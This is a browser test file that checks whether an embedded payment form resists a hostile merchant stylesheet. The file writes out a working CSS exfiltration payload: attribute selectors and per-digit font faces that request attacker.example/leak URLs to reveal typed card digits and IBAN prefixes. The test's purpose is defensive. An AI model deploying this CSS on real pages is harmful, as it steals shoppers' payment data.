import type { BrowserContext } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { mountOnMerchantPage } from './fixtures/merchant-page.js';
import { useMerchantSession } from './fixtures/merchant-session.js';
import { screenshot } from './fixtures/screenshots.js';
import { testFont } from './fixtures/test-font.js';

/** The attacker's host; the browser context answers for it (nothing leaves the machine). */
const ATTACKER = 'https://attacker.example';

/**
 * A stylesheet a compromised merchant page names as `fonts[].cssSrc`: one honest font face, and
 * every way CSS can read an input: attribute selectors on typed values, and a face per digit.
 */
const EVIL_CSS = `
@font-face { font-family: 'Shop Sans'; src: url(${ATTACKER}/fonts/shop-sans.ttf) format('truetype'); font-display: block; }
input[value^="4"] { background-image: url(${ATTACKER}/leak/prefix-4); }
input[value^="42"] { background-image: url(${ATTACKER}/leak/prefix-42); }
input[value*="4242"] { background-image: url(${ATTACKER}/leak/contains-4242); }
input[value$="3"] { background-image: url(${ATTACKER}/leak/suffix-3); }
input[value*="DE89"] { background-image: url(${ATTACKER}/leak/iban-DE89); }
@font-face { font-family: 'Spy'; src: url(${ATTACKER}/leak/digit-4); unicode-range: U+0034; }
@font-face { font-family: 'Spy'; src: url(${ATTACKER}/leak/digit-2); unicode-range: U+0032; }
@import url(${ATTACKER}/leak/import.css);
input { font-family: 'Spy', 'Shop Sans', sans-serif !important; }
`;

/** Serves the attacker's host in this browser context and records every request it gets. */
async function attackerHost(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  const font = testFont();
  await context.route(`${ATTACKER}/**`, async (route) => {
    const url = new URL(route.request().url());
    seen.push(url.pathname);
    const cors = { 'access-control-allow-origin': '*' };
    if (url.pathname === '/evil.css') {
      return route.fulfill({ status: 200, headers: { ...cors, 'content-type': 'text/css' }, body: EVIL_CSS });
    }
    if (url.pathname === '/fonts/shop-sans.ttf') {
      return route.fulfill({ status: 200, headers: { ...cors, 'content-type': 'font/ttf' }, body: font });
    }
    return route.fulfill({ status: 204, headers: cors });
  });
  return seen;
}

describe('a hostile merchant stylesheet given as fonts[].cssSrc', () => {
  let seen: string[];
  const session = useMerchantSession(async (page) => {
    seen = await attackerHost(page.context());
  });

  async function mount(types: string[]) {
    const server = {
      stripe: session.stack.stripe,
      publishableKey: session.stack.server.keys.testPublishable,
    };
    const options = {
      fonts: [{ cssSrc: `${ATTACKER}/evil.css` }],
      appearance: { variables: { fontFamily: '"Shop Sans", sans-serif' } },
    };
    const intent = await mountOnMerchantPage(session.page, session.merchant, server, options, types);
    await session.element.ready();
    return intent;
  }

  /** The `value` attribute of every input of the payment frame (what a selector could match). */
  const valueAttributes = () =>
    session.element.frame
      .locator('input')
      .evaluateAll((inputs) => inputs.map((input) => input.getAttribute('value')));

  it('loads only its font face; no typed digit reaches the attacker, and the card still pays', async () => {
    const intent = await mount(['card']);
    const frame = (await (await session.element.iframe.elementHandle())!.contentFrame())!;
    // The honest face is read from the stylesheet and loaded (with the FontFace API).
    await frame.waitForFunction(() =>
      [...document.fonts].some(
        (face) => face.family.replace(/"/g, '') === 'Shop Sans' && face.status === 'loaded',
      ),
    );
    await session.element.fillCard({
      number: '4242424242424242',
      expiry: '1234',
      cvc: '123',
      postalCode: '10001',
    });
    expect((await valueAttributes()).length).toBeGreaterThanOrEqual(4);
    for (const value of await valueAttributes()) expect(value ?? '').toBe('');
    await screenshot(session.page, 'hostile-fonts-card');

    const paid = await session.page.evaluate(async () => {
      const w = window as unknown as {
        payframe: { confirmPayment(o: unknown): Promise<{ paymentIntent?: { status: string } }> };
        elements: unknown;
      };
      const result = await w.payframe.confirmPayment({ elements: w.elements, redirect: 'if_required' });
      return result.paymentIntent?.status;
    });
    expect(paid).toBe('succeeded');
    expect((await session.stack.stripe.paymentIntents.retrieve(intent.id)).status).toBe('succeeded');
    expect(seen).toContain('/evil.css');
    expect(seen).toContain('/fonts/shop-sans.ttf');
    expect(seen.filter((request) => request.startsWith('/leak/'))).toEqual([]);
  });

  it('keeps the IBAN out of the DOM too', async () => {
    await mount(['card', 'sepa_debit']);
    await session.element.selectMethod(/SEPA/);
    await session.element.fillSepa({
      name: 'Jenny Rosen',
      email: 'jenny@example.com',
      iban: 'DE89370400440532013000',
    });
    for (const value of await valueAttributes()) expect(value ?? '').toBe('');
    expect(await session.element.input('iban').inputValue()).toMatch(/^DE89/);
    expect(seen.filter((request) => request.startsWith('/leak/'))).toEqual([]);
  });
});
